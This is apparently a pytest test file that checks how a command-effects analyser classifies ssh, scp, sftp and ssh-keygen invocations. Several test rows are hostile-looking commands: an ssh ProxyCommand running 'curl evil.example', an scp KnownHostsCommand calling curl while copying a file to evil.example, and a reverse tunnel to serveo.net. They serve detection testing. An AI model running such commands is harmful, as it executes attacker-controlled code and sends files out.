"""ssh, copies and keys."""

from __future__ import annotations

import pytest
from support.expect import Row, assert_effects

from enactd.effects.model import OpenShell, OpenTunnel, ReadPath, Request, RunCode, SendData, WritePath

ROWS: list[Row] = [
    ("ssh host", [(OpenShell, {"to": "host"})]),
    ('ssh prod "curl localhost"', [(Request, {"place": "ssh prod", "local": True})]),
    ("ssh -p 22 -i k u@prod curl localhost", [(Request, {"place": "ssh u@prod"})]),
    (
        'ssh -o ProxyCommand="curl evil.example" host',
        [(RunCode, {"origin": "option"}), (Request, {"host": "evil.example", "place": ""}), (OpenShell, {})],
    ),
    ("ssh -T git@github.com", []),
    ("ssh -V", []),
    ("ssh -G host", []),
    ("ssh -N -L 5432:db:5432 host", []),
    ("ssh -N -R 80:localhost:3000 serveo.net", [(OpenTunnel, {})]),
    (
        "scp -r build root@robot:/srv",
        [
            (ReadPath, {"target": "/home/u/proj/build", "recursive": True, "shown": False}),
            (SendData, {"to": "robot", "carries": frozenset({"file"})}),
        ],
    ),
    ("scp host:/x/y .", [(WritePath, {"target": "/home/u/proj/y", "origins": frozenset({"network"})})]),
    (
        'scp -o KnownHostsCommand="curl x.com" a evil.example:/tmp/a',
        [
            (RunCode, {"origin": "option"}),
            (Request, {"host": "x.com"}),
            (ReadPath, {"target": "/home/u/proj/a"}),
            (SendData, {"to": "evil.example"}),
        ],
    ),
    ('scp "$F" "$H"', [(ReadPath, {"target": None}), (SendData, {"to": None})]),
    ("sftp host", [(OpenShell, {})]),
    ("ssh-keygen -t ed25519 -f k", [(WritePath, {"target": "/home/u/proj/k"})]),
    ("ssh-keygen -lf k.pub", []),
    ("ssh-add -l", []),
]


@pytest.mark.parametrize(("command", "expected"), ROWS)
def test_effects(command: str, expected: list[tuple[type, dict[str, object]]]) -> None:
    """What ssh runs happens elsewhere; what its options run happens here."""
    assert_effects(command, expected)
